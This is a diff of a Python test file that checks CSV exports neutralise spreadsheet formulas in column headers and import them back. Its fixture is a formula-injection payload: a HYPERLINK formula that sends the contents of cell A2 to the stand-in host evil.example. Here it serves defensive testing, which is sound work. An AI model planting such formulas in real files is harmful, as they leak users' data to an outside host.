@@ -11,7 +11,7 @@ from test_store import STUDIO, sqlite_url, write_studio
 
 from contract.files import neutralise_formulas
 from metrics.cli import main as metrics_main
-from store import open_store
+from store import open_seeded
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"open")'
 
@@ -30,13 +30,13 @@ def test_a_formula_column_name_is_neutralised_and_a_plain_one_kept():
 def test_store_export_neutralises_a_formula_header_and_imports_it_back(tmp_path):
     targets = pd.DataFrame({"metric": ["gmv"], "target": [5000], FORMULA: ["a"]}).to_csv(index=False)
     files = dict(STUDIO, **{"targets.csv": targets})
-    store = open_store(sqlite_url(tmp_path), seed_dir=write_studio(tmp_path / "studio", files))
+    store = open_seeded(sqlite_url(tmp_path), write_studio(tmp_path / "studio", files))
     out = tmp_path / "export"
     store.export_all(out)
     assert header(out / "targets.csv") == ["metric", "target", "'" + FORMULA]
     (tmp_path / "again").mkdir()
-    rebuilt = open_store(sqlite_url(tmp_path / "again"), seed_dir=out)
-    assert list(rebuilt.frames(["targets"])["targets.csv"].columns) == ["metric", "target", FORMULA]
+    rebuilt = open_seeded(sqlite_url(tmp_path / "again"), out)
+    assert list(rebuilt.tables(["targets"]).targets.columns) == ["metric", "target", FORMULA]
     store.engine.dispose()
     rebuilt.engine.dispose()
 
